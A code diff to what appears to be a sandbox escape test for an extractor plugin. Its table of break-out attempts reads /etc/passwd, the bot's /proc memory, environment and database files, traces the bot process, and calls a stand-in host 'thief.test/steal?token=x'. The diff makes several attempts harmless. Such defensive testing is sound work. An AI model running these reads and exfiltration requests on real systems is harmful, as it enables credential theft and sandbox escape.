@@ -115,7 +115,10 @@ class LocalTestIE(InfoExtractor):
         time.sleep(600)
 
     def _do_break_out(self, page: dict) -> None:
-        """Try ways out that Python's audit hook does not stop, and report each."""
+        """Try ways out that Python's audit hook does not stop, and report each.
+
+        An attempt that succeeds must harm neither the machine nor the test.
+        """
         files, new, bot = page["files"], page["new"], page["bot"]
         libc = ctypes.CDLL(None, use_errno=True)
         env = files["env"].encode()
@@ -129,6 +132,13 @@ class LocalTestIE(InfoExtractor):
             remote = struct.pack("=QQ", 0x10000, 8)
             call(libc.process_vm_readv, bot, remote, 1, remote, 1, 0)
 
+        def fork() -> None:
+            if call(libc.fork) == 0:
+                os._exit(0)
+
+        def share_memory() -> None:
+            libc.shmctl(call(libc.shmget, 0, 4096, 0o1600), 0, None)
+
         def through_proxy(host: str) -> None:
             self._request_webpage(f"http://{host}/steal?token=x", "x")
 
@@ -137,7 +147,7 @@ class LocalTestIE(InfoExtractor):
             "memory map of the bot": lambda: read(f"/proc/{bot}/maps"),
             "memory of the bot": lambda: read(f"/proc/{bot}/mem"),
             "memory of the bot, by call": read_memory,
-            "trace the bot": lambda: call(libc.ptrace, 16, bot, 0, 0),
+            "trace the bot": lambda: call(libc.ptrace, 0x4206, bot, 0, 0),
             "file of settings": lambda: read(files["env"]),
             "database": lambda: read(files["database"]),
             "users": lambda: read("/etc/passwd"),
@@ -163,15 +173,15 @@ class LocalTestIE(InfoExtractor):
             "change an attribute": lambda: os.setxattr(files["env"], "user.x", b"x"),
             "program, C": lambda: call(lambda: -libc.system(b"exit 0")),
             "program, exec": lambda: call(libc.execv, b"/bin/true", None),
-            "process": lambda: call(libc.fork),
+            "process": fork,
             "signal the bot": lambda: os.kill(bot, 0),
             "signals by a pipe": lambda: call(libc.fcntl, 0, 8, bot),
             "renice the bot": lambda: os.setpriority(os.PRIO_PROCESS, bot, 1),
             "outlive the bot": lambda: call(libc.prctl, 1, 0, 0, 0, 0),
             "leave the group": lambda: call(libc.setpgid, 0, 0),
-            "shared memory": lambda: call(libc.shmget, 0, 4096, 0o1600),
+            "shared memory": share_memory,
             "namespace": lambda: call(libc.unshare, 0x10000000),
-            "mount": lambda: call(libc.mount, b"x", b"/mnt", b"tmpfs", 0, None),
+            "unmount": lambda: call(libc.umount2, b"/nowhere", 0),
             "io_uring": lambda: call(libc.syscall, 425, 1, ctypes.create_string_buffer(120)),
             "another site": lambda: through_proxy("thief.test"),
             "another site, by its end": lambda: through_proxy("music.test.thief.test"),
